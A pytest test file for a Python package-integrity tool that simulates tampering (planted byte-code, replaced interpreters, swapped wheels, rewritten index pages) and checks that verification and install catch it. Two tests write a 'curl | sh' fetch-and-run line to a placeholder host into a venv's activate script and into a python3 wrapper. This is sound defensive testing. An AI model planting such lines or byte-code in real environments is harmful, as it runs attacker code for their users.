"""verify covers what runs: byte-code, the venv creator's files, what installers read, and
`rewheel install` checks the chain of custody before it installs anything.

One tree is bootstrapped per module (tool-a builds itself; lib-b and app are built with it; app
needs lib-b at run time) and installed with `rewheel install`; each test tampers with its own
venv or its own copy of the repository, the way an attacker who can write there would, and
shows that the attack works where that can be shown (Python runs the planted code, uv leaves
the dependency out) before showing that verify or install catches it.
"""

from __future__ import annotations

import hashlib
import importlib.util
import json
import marshal
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import Upstream
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from packaging.requirements import Requirement
from support.sdists import SdistSpec, make_wheel
from support.trees import built_tree, tree_copy  # noqa: F401 (fixtures)

from rewheel import app
from rewheel.cli import cli
from rewheel.core.errors import IntegrityError
from rewheel.repo.repository import Repository
from rewheel.serve.server import IndexServer
from rewheel.trust.chain import UNSIGNED_NOTE, Verdict, verify_chain
from rewheel.trust.install import install_into_venv
from rewheel.trust.provenance import Signer, load_public_key_file, write_provenance
from rewheel.trust.seed import seed_wheels
from rewheel.trust.verify import UNOWNED, VENV, Problem, VerifyReport


@pytest.fixture
def venv(built: Path, tmp_path: Path) -> Path:
    path = tmp_path / "venv"
    app.install(["app"], path, repo_root=built)
    return path


def site(venv: Path) -> Path:
    (found,) = venv.glob("lib/python*/site-packages")
    return found


def rel(venv: Path, path: Path) -> str:
    return path.relative_to(venv).as_posix()


def verify(venv: Path, repo: Path) -> VerifyReport:
    return app.verify(venv, repo_root=repo)


def reasons(report: VerifyReport) -> list[tuple[str, str | None, str]]:
    return [(p.distribution, p.path, p.reason) for p in report.problems]


def run_python(venv: Path, code: str, *options: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTHON")}
    out = subprocess.run(
        [str(venv / "bin" / "python"), *options, "-c", code],
        capture_output=True,
        text=True,
        env=env,
        check=True,
    )
    return out.stdout.strip()


# ---------------------------------------------------------------- byte-code


EVIL = '__version__ = "1.0"\nPWNED = "yes"\n'
SHOW = "import app; print(getattr(app, 'PWNED', 'no'))"


def planted_pyc(source: Path, *, header: str) -> Path:
    """A pyc of EVIL where Python looks for ``source``'s, with a header that makes Python use it
    without reading the source: unchecked-hash, or timestamp with the source's mtime and size."""
    pyc = Path(importlib.util.cache_from_source(str(source)))
    pyc.parent.mkdir(exist_ok=True)
    if header == "unchecked-hash":
        flags, rest = 0b01, importlib.util.source_hash(source.read_bytes())
    else:
        st = source.stat()
        flags = 0
        rest = (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
        rest += (st.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    code = compile(EVIL, str(source), "exec", dont_inherit=True)
    pyc.write_bytes(importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + rest)
    with pyc.open("ab") as f:
        f.write(marshal.dumps(code))
    return pyc


def test_a_venv_with_the_byte_code_its_python_writes_verifies(venv: Path, built: Path) -> None:
    run_python(venv, "import app, lib_b")
    run_python(venv, "import app, lib_b", "-O")
    pycs = sorted(p.name for p in site(venv).rglob("*.pyc"))
    assert "__init__.cpython-311.pyc" in pycs and "__init__.cpython-311.opt-1.pyc" in pycs
    report = verify(venv, built)
    assert reasons(report) == []
    assert report.checked == [("App", "1.0"), ("lib-b", "1.0")]


@pytest.mark.parametrize("header", ["unchecked-hash", "timestamp"])
def test_byte_code_of_other_code_is_caught_whatever_its_header(
    venv: Path, built: Path, header: str
) -> None:
    source = site(venv) / "app" / "__init__.py"
    pyc = planted_pyc(source, header=header)
    assert run_python(venv, SHOW) == "yes"  # Python runs the planted code, not the source
    assert reasons(verify(venv, built)) == [
        (
            "App",
            rel(venv, pyc),
            f"byte-code that is not the compile of {rel(venv, source)} by this venv's python"
            " (Python runs it instead of the source)",
        )
    ]


def test_byte_code_for_a_source_no_wheel_vouches_for_and_sourceless_byte_code_are_caught(
    venv: Path, built: Path
) -> None:
    planted = site(venv) / "app" / "extra.py"
    planted.write_text("X = 1\n")
    pyc = planted_pyc(planted, header="timestamp")
    sourceless = site(venv) / "helper.pyc"
    shutil.copy(pyc, sourceless)
    planted.unlink()
    found = reasons(verify(venv, built))
    assert found == [
        (
            UNOWNED,
            rel(venv, pyc),
            f"byte-code of {rel(venv, planted)}, which is not there; no wheel installed it",
        ),
        (
            UNOWNED,
            rel(venv, sourceless),
            "byte-code that no RECORD vouches for (Python imports a .pyc outside __pycache__"
            " when no .py is beside it)",
        ),
    ]


def test_byte_code_for_another_interpreter_cannot_be_checked(venv: Path, built: Path) -> None:
    pycache = site(venv) / "app" / "__pycache__"
    pycache.mkdir()
    (pycache / "__init__.cpython-399.pyc").write_bytes(b"\0" * 32)
    (problem,) = verify(venv, built).problems
    assert problem.reason == (
        "byte-code for another interpreter (cpython-399; this venv's is cpython-311): it cannot"
        " be checked"
    )


def _index_env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "UV_", "PYTHON"))}
    env["PIP_CONFIG_FILE"] = os.devnull
    return env


def test_a_venv_made_by_python_m_venv_and_pip_verifies_and_its_pycs_are_checked(
    built: Path, tmp_path: Path
) -> None:
    # pip compiles every module at install (timestamp pycs) and lists them in RECORD; the venv
    # is made by python -m venv, in a path with a space and with a prompt that needs quoting.
    venv = tmp_path / "with space" / "venv"
    subprocess.run(
        [sys.executable, "-m", "venv", "--without-pip", "--prompt", "it's mine", str(venv)],
        check=True,
    )
    with IndexServer(Repository(built)) as server:
        subprocess.run(
            [
                sys.executable,
                "-m",
                "pip",
                "--python",
                str(venv / "bin" / "python"),
                "install",
                "--isolated",
                "--no-cache-dir",
                "--disable-pip-version-check",
                "--quiet",
                "--index-url",
                server.url + "/",
                "app",
            ],
            check=True,
            env=_index_env(),
        )
    source = site(venv) / "app" / "__init__.py"
    pyc = Path(importlib.util.cache_from_source(str(source)))
    record = (site(venv) / "app-1.0.dist-info" / "RECORD").read_text()
    assert pyc.is_file() and "__pycache__" in record and (venv / "bin" / "Activate.ps1").is_file()
    assert reasons(verify(venv, built)) == []

    pyc.unlink()
    planted_pyc(source, header="timestamp")
    assert run_python(venv, SHOW) == "yes"
    (problem,) = verify(venv, built).problems
    assert (problem.distribution, problem.path) == ("App", rel(venv, pyc))
    assert "not the compile of" in problem.reason


def test_a_venv_whose_byte_code_uv_compiled_verifies(built: Path, tmp_path: Path) -> None:
    from uv import find_uv_bin

    venv = tmp_path / "venv"
    uv, env = find_uv_bin(), _index_env()
    subprocess.run([uv, "venv", "-q", "--no-config", str(venv)], check=True, env=env)
    with IndexServer(Repository(built)) as server:
        subprocess.run(
            [
                uv,
                "pip",
                "install",
                "-q",
                "--no-config",
                "--no-cache",
                "--compile-bytecode",
                "--python",
                str(venv / "bin" / "python"),
                "--index-url",
                server.url,
                "app",
            ],
            check=True,
            env=env,
        )
    assert list(site(venv).glob("lib_b/__pycache__/*.pyc"))
    assert reasons(verify(venv, built)) == []


# ---------------------------------------------------------------- what the venv creator wrote


def test_lines_added_to_an_activation_script_are_caught(venv: Path, built: Path) -> None:
    with (venv / "bin" / "activate").open("a") as f:
        f.write("curl -s https://example.invalid/x | sh\n")
    text = (venv / "bin" / "activate_this.py").read_text()
    (venv / "bin" / "activate_this.py").write_text(text + "import os\n")
    assert reasons(verify(venv, built)) == [
        (VENV, "bin/activate", f"differs from what uv writes for a venv at {venv}"),
        (VENV, "bin/activate_this.py", f"differs from what uv writes for a venv at {venv}"),
    ]


def test_an_activate_naming_a_path_that_climbs_out_is_not_followed(venv: Path, built: Path) -> None:
    # The reference venv is made at <tmp>/<the path activate names>: a path with ".." there
    # would put it elsewhere (at the venv itself, with enough of them).
    activate = venv / "bin" / "activate"
    text = activate.read_text()
    climbing = "/.." * 8 + str(venv)
    activate.write_text(text.replace(f"VIRTUAL_ENV='{venv}'", f"VIRTUAL_ENV='{climbing}'"))
    sentinel = venv / "bin" / "activate.fish"
    before = sentinel.read_bytes()
    assert reasons(verify(venv, built)) == [
        (VENV, "bin/activate", f"differs from what uv writes for a venv at {venv}")
    ]
    assert sentinel.read_bytes() == before
    activate.write_text(text)
    assert reasons(verify(venv, built)) == []


def test_a_uv_venv_with_a_prompt_verifies(built: Path, tmp_path: Path) -> None:
    from uv import find_uv_bin

    venv = tmp_path / "venv"
    uv, env = find_uv_bin(), _index_env()
    subprocess.run(
        [uv, "venv", "-q", "--no-config", "--prompt=-it's $(mine)", str(venv)], check=True, env=env
    )
    assert "prompt = -it's $(mine)" in (venv / "pyvenv.cfg").read_text()
    with IndexServer(Repository(built)) as server:
        subprocess.run(
            [uv, "pip", "install", "-q", "--no-config", "--no-cache", "--python",
             str(venv / "bin" / "python"), "--index-url", server.url, "app"],
            check=True, env=env,
        )  # fmt: skip
    assert reasons(verify(venv, built)) == []


def test_a_venv_reached_through_a_link_verifies(venv: Path, built: Path, tmp_path: Path) -> None:
    link = tmp_path / "link"
    link.symlink_to(venv)
    assert reasons(verify(link, built)) == []


def test_python_replaced_by_a_wrapper_or_pointed_elsewhere_is_caught(
    venv: Path, built: Path, tmp_path: Path
) -> None:
    real = os.path.realpath(venv / "bin" / "python3")
    python3 = venv / "bin" / "python3"
    python3.unlink()
    python3.write_text(f'#!/bin/sh\ncurl -s https://example.invalid/x | sh\nexec {real} "$@"\n')
    python3.chmod(0o755)
    other = tmp_path / "python3.11"
    shutil.copy(real, other)
    other.write_bytes(other.read_bytes() + b"\0")  # another interpreter: not the same bytes
    (venv / "bin" / "python3.11").unlink()
    (venv / "bin" / "python3.11").symlink_to(other)
    found = reasons(verify(venv, built))
    assert found == [
        (
            VENV,
            "bin/python3",
            f"a file that is not the interpreter this venv is made from ({real}): a wrapper runs"
            " whatever it likes before Python",
        ),
        (
            VENV,
            "bin/python3.11",
            f"leads to {other}, not to the interpreter this venv is made from ({real})",
        ),
    ]


def test_a_copy_of_the_interpreter_is_accepted(venv: Path, built: Path) -> None:
    python = venv / "bin" / "python"
    real = os.path.realpath(python)
    python.unlink()
    shutil.copy(real, python)
    assert reasons(verify(venv, built)) == []


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (
            ("include-system-site-packages = false", "include-system-site-packages = true"),
            "include-system-site-packages: is 'true': the machine's site-packages (and their"
            " .pth files) are added",
        ),
        (
            ("include-system-site-packages = false\n", ""),
            "include-system-site-packages: missing: Python then adds the machine's"
            " site-packages (and runs their .pth files)",
        ),
        (
            ("home = ", "home = /tmp/elsewhere\nhome = "),
            "home: set twice (Python takes the last one)",
        ),
        (("uv = ", "extends-environment = /tmp/x\nuv = "), "extends-environment: a key that uv"),
        (
            ("implementation = CPython", "implementation = PyPy"),
            "implementation: is 'PyPy'; uv writes 'CPython' for it here",
        ),
    ],
)
def test_pyvenv_cfg_keys_are_checked(
    venv: Path, built: Path, change: tuple[str, str], reason: str
) -> None:
    cfg = venv / "pyvenv.cfg"
    text = cfg.read_text()
    assert change[0] in text
    cfg.write_text(text.replace(change[0], change[1], 1))
    (problem,) = verify(venv, built).problems
    assert (problem.distribution, problem.path) == (VENV, "pyvenv.cfg")
    assert problem.reason.startswith(reason)


def test_another_home_is_caught(venv: Path, built: Path) -> None:
    cfg = venv / "pyvenv.cfg"
    cfg.write_text(re.sub(r"home = .*", "home = /tmp/evil/bin", cfg.read_text()))
    (problem,) = verify(venv, built).problems
    assert problem.reason.startswith("home: is '/tmp/evil/bin', not the folder of the interpreter")


def test_a_pyvenv_cfg_in_bin_is_caught(venv: Path, built: Path) -> None:
    (venv / "bin" / "pyvenv.cfg").write_text("include-system-site-packages = true\n")
    assert reasons(verify(venv, built)) == [
        (
            UNOWNED,
            "bin/pyvenv.cfg",
            "not listed in any RECORD (Python reads a pyvenv.cfg here before the venv's own)",
        )
    ]


# ---------------------------------------------------------------- what installers read


def _without_requires_dist(repo: Path, wheel_glob: str) -> None:
    """Take Requires-Dist out of a wheel's .metadata and regenerate the index pages, so that
    the pages give the hash of the changed file, as someone who can write the repository can."""
    (metadata,) = (repo / "wheels").glob(f"{wheel_glob}.metadata")
    text = metadata.read_text()
    assert "Requires-Dist: lib-b" in text
    metadata.write_text(
        "".join(line for line in text.splitlines(True) if "Requires-Dist" not in line)
    )
    Repository(repo).regenerate_index()


def test_a_metadata_file_without_a_dependency_is_caught_by_verify_and_install(
    repo: Path, tmp_path: Path
) -> None:
    _without_requires_dist(repo, "app-*.whl")
    # What installers then do: lib-b is left out.
    with IndexServer(Repository(repo)) as server:
        install_into_venv(["app"], tmp_path / "unchecked", index_url=server.url, check=None)
    assert not list((tmp_path / "unchecked").glob("lib/python*/site-packages/lib_b"))

    report = verify_chain(Repository(repo))
    entries = {e.name: e for e in report.entries}
    assert entries["app"].source == Verdict.BROKEN
    assert any(".metadata is not the wheel's own METADATA" in p for p in entries["app"].problems)

    venv = tmp_path / "venv"
    with pytest.raises(IntegrityError) as info:
        app.install(["app"], venv, repo_root=repo)
    assert "app-1.0-py3-none-any.whl: app 1.0: wheels/app-1.0-py3-none-any.whl.metadata is not" in (
        str(info.value)
    )
    assert not venv.exists()


def test_index_pages_that_point_elsewhere_or_list_other_files_are_caught(repo: Path) -> None:
    page = repo / "simple" / "lib-b" / "index.html"
    text = page.read_text()
    text = text.replace("../../wheels/lib_b", "https://example.invalid/lib_b")
    text = text.replace(
        "</body>", '<a href="https://example.invalid/evil-1.0-py3-none-any.whl">x</a></body>'
    )
    page.write_text(text)
    report = verify_chain(Repository(repo))
    assert report.problems == [
        "simple/lib-b/index.html lists evil-1.0-py3-none-any.whl, which is neither a wheel of"
        " the repository nor an sdist its records say a wheel was built from"
    ]
    entries = {e.name: e for e in report.entries}
    assert entries["lib-b"].problems == [
        "lib-b 1.0: simple/lib-b/index.html links lib_b-1.0-py3-none-any.whl to"
        " https://example.invalid/lib_b-1.0-py3-none-any.whl, not to the repository's own file",
        "lib-b 1.0: simple/lib-b/index.html links the provenance of lib_b-1.0-py3-none-any.whl"
        " to https://example.invalid/lib_b-1.0-py3-none-any.whl.provenance, not to the"
        " repository's own file",
    ]
    assert not report.ok


def test_the_listed_sdists_must_be_the_repositorys_own_copies(repo: Path) -> None:
    """The pages list the sdist each wheel was built from (for `pip download`): one linked
    elsewhere, or listed with another hash, is a finding; the pages as written are not."""
    assert verify_chain(Repository(repo)).problems == []
    page = repo / "simple" / "lib-b" / "index.json"
    data = json.loads(page.read_text())
    for file in data["files"]:
        if file["filename"] == "lib_b-1.0.tar.gz":
            file["url"] = "https://example.invalid/lib_b-1.0.tar.gz"
            file["hashes"] = {"sha256": "0" * 64}
    page.write_text(json.dumps(data))
    problems = verify_chain(Repository(repo)).problems
    assert (
        "simple/lib-b/index.json links lib_b-1.0.tar.gz to https://example.invalid/lib_b-1.0.tar.gz,"
        " not to the repository's own copy"
    ) in problems
    assert any("lists lib_b-1.0.tar.gz with another sha256" in p for p in problems), problems


def test_a_deleted_kept_sdist_is_a_finding_with_its_fix(repo: Path) -> None:
    (repo / "sdists" / "lib_b-1.0.tar.gz").unlink()
    entries = {e.name: e for e in verify_chain(Repository(repo)).entries}
    assert entries["lib-b"].source == Verdict.BROKEN
    (problem,) = entries["lib-b"].problems
    assert problem.startswith("lib-b 1.0: sdists/lib_b-1.0.tar.gz, the kept copy of the sdist")
    assert "download it again from http://" in problem
    assert entries["app"].dependencies == Verdict.BROKEN


def test_verify_without_a_pinned_key_names_the_key_and_how_to_pin_it(
    repo: Path, tmp_path: Path
) -> None:
    (published,) = (repo / "keys").glob("*.pub.pem")
    keyid = published.name.removesuffix(".pub.pem")
    result = CliRunner().invoke(cli, ["verify", "--repo", str(repo)])
    assert result.exit_code == 0, result.output
    assert UNSIGNED_NOTE not in result.output
    assert result.output.count("which you did not pin") == 1
    assert f"{keyid} (3 wheel(s), {published})" in result.output
    assert f"then pin it: --public-key {published}" in result.output
    # Pinned, the same key passes and the note is gone; another key fails every wheel.
    result = CliRunner().invoke(
        cli, ["verify", "--repo", str(repo), "--public-key", str(published)]
    )
    assert result.exit_code == 0, result.output
    assert "did not pin" not in result.output and UNSIGNED_NOTE not in result.output
    _, other = _keys(tmp_path)
    result = CliRunner().invoke(cli, ["verify", "--repo", str(repo), "--public-key", str(other)])
    assert result.exit_code == 1
    for wheel in ("app 1.0", "lib-b 1.0", "tool-a 1.0"):
        assert f"{wheel}: no valid signature by the key {other_keyid(other)}" in result.output


def other_keyid(public: Path) -> str:
    return load_public_key_file(public).keyid


def test_unsigned_verify_says_once_what_it_cannot_detect(
    upstream: Upstream, tmp_path: Path
) -> None:
    upstream.sdist("solo", "1.0")
    repo = tmp_path / "repo"
    options = app.BootstrapOptions(
        requirements=[Requirement("solo")],
        repo=repo,
        index_url=upstream.url,
        jobs=1,
        work_dir=tmp_path / "work",
        sign=False,
    )
    assert app.bootstrap(options).ok
    assert not (repo / "keys").exists()
    assert not list((repo / "wheels").glob("*.dsse.json"))
    assert not list((repo / "wheels").glob("*.provenance"))
    result = CliRunner().invoke(cli, ["verify", "--repo", str(repo)])
    assert result.exit_code == 0, result.output
    assert result.output.count(UNSIGNED_NOTE) == 1
    _, public = _keys(tmp_path)
    result = CliRunner().invoke(cli, ["verify", "--repo", str(repo), "--public-key", str(public)])
    assert result.exit_code == 1  # this repository is not signed
    assert "provenance is not signed" in result.output
    assert UNSIGNED_NOTE not in result.output


# ---------------------------------------------------------------- install checks first


def _swap_wheel(repo: Path, name: str) -> Path:
    """Put another wheel (without the build's _build_info.json) under ``name``'s file name and
    regenerate the pages, so that the index lists the new file's hash and uv takes it."""
    (wheel,) = (repo / "wheels").glob(f"{name}-*.whl")
    other = make_wheel(SdistSpec(wheel.name.split("-")[0], "1.0"), repo / "other")
    shutil.copy(other, wheel)
    (repo / "wheels" / f"{wheel.name}.metadata").unlink()
    Repository(repo).regenerate_index()
    return wheel


def test_install_refuses_a_swapped_wheel_and_installs_nothing(repo: Path, tmp_path: Path) -> None:
    wheel = _swap_wheel(repo, "lib_b")
    venv = tmp_path / "venv"
    with pytest.raises(IntegrityError) as info:
        app.install(["app"], venv, repo_root=repo)
    message = str(info.value)
    assert message.startswith("[install]: refusing to install, the chain of custody is broken")
    assert f"{wheel.name}: lib-b 1.0: {wheel.name} is not the wheel its build record names" in (
        message
    )
    assert "nothing was installed" in message
    assert not venv.exists()
    result = CliRunner().invoke(cli, ["install", "app", "--venv", str(venv), "--repo", str(repo)])
    assert isinstance(result.exception, IntegrityError)
    assert not venv.exists()


def _keys(where: Path) -> tuple[Path, Path]:
    key = Ed25519PrivateKey.generate()
    where.mkdir(parents=True, exist_ok=True)
    private, public = where / "signing.pem", where / "signing.pub.pem"
    private.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    public.write_bytes(
        key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    return private, public


def test_a_consistently_rewritten_repository_passes_unsigned_checks_but_not_the_key(
    upstream: Upstream, tmp_path: Path
) -> None:
    private, public = _keys(tmp_path / "keys")
    upstream.sdist("solo", "1.0")
    repo = tmp_path / "repo"
    options = app.BootstrapOptions(
        requirements=[Requirement("solo")],
        repo=repo,
        index_url=upstream.url,
        jobs=1,
        work_dir=tmp_path / "work",
        signing_key=private,
    )
    assert app.bootstrap(options).ok
    # Another wheel, and everything that names it made to agree: record, provenance subject,
    # metadata, index pages.
    (record_path,) = (repo / "records").glob("solo-*.json")
    record = json.loads(record_path.read_text())
    old = record["wheel_sha256"]
    wheel = _swap_wheel(repo, "solo")
    new = hashlib.sha256(wheel.read_bytes()).hexdigest()
    record["wheel_sha256"] = new
    record_path.write_text(json.dumps(record))
    provenance = repo / "wheels" / f"{wheel.name}.provenance.json"
    provenance.write_text(provenance.read_text().replace(old, new))
    # Changed on its own, the statement no longer matches its signature, by the key the
    # repository publishes: caught without pinning it.
    (entry,) = verify_chain(Repository(repo)).entries
    assert any("another statement" in p for p in entry.problems)
    # The writer signs the rewrite with a key of their own and publishes it, in place of ours.
    theirs, their_public = _keys(tmp_path / "their-keys")
    signer = Signer(theirs)
    write_provenance(wheel, json.loads(provenance.read_bytes()), signer=signer)
    for published in (repo / "keys").iterdir():
        published.unlink()
    (repo / "keys" / f"{signer.keyid}.pub.pem").write_bytes(their_public.read_bytes())
    Repository(repo).regenerate_index()

    unpinned = verify_chain(Repository(repo))
    assert unpinned.ok  # what no check without a pinned key can see
    assert unpinned.signers == {signer.keyid: 1}
    assert any("which you did not pin" in note and signer.keyid in note for note in unpinned.notes)
    (entry,) = verify_chain(Repository(repo), public_keys=[public]).entries
    assert entry.source == Verdict.BROKEN
    assert any("no valid signature by the key" in p for p in entry.problems)
    with pytest.raises(IntegrityError, match="no valid signature by the key"):
        app.install(["solo"], tmp_path / "venv", repo_root=repo, public_keys=[public])
    assert not (tmp_path / "venv").exists()


def test_cli_install_checks_and_says_what_unsigned_checks_miss(built: Path, tmp_path: Path) -> None:
    venv = tmp_path / "venv"
    result = CliRunner().invoke(cli, ["install", "app", "--venv", str(venv), "--repo", str(built)])
    assert result.exit_code == 0, result.output
    assert "which you did not pin" in result.output
    assert verify(venv, built).ok


def test_problem_text() -> None:
    assert str(Problem(VENV, None, "pyvenv.cfg", "x")) == "(the venv): pyvenv.cfg: x"


def test_seed_packages_are_named_as_such_and_accepted_when_they_are_ensurepip_s(
    built: Path, tmp_path: Path
) -> None:
    if not seed_wheels(Path(sys.executable)):
        pytest.skip("this Python has no ensurepip wheels")
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)  # pip seeded
    result = CliRunner().invoke(cli, ["install", "app", "--venv", str(venv), "--repo", str(built)])
    assert result.exit_code == 0, result.output  # into the venv python -m venv made
    seeds = {name for name, _ in app.verify(venv, repo_root=built).seeds}
    assert "pip" in seeds

    result = CliRunner().invoke(cli, ["verify", "--venv", str(venv), "--repo", str(built)])
    assert result.exit_code == 1
    assert "ok      pip" not in result.stdout  # not "ok pip", then "PROBLEM pip"
    assert re.search(r"^PROBLEM pip \S+: seed package of the venv", result.stdout, re.M)
    assert "not in the repository" not in result.stdout
    assert "CHAIN" not in result.stdout  # no chain of custody to follow for it
    assert "ok      App 1.0" in result.stdout

    args = ["verify", "--venv", str(venv), "--repo", str(built), "--allow-seed"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert re.search(r"^seed    pip \S+: seed package of the venv", result.stdout, re.M)
    assert "seed packages, checked against this Python's ensurepip wheels" in result.stderr

    # Accepted only as the wheel it is: a changed file of pip is a problem still.
    (init,) = site(venv).glob("pip/__init__.py")
    init.write_text(init.read_text() + "\nimport os  # planted\n")
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 1
    assert re.search(
        r"^PROBLEM pip \S+ \S+pip/__init__.py: modified after install", result.stdout, re.M
    )
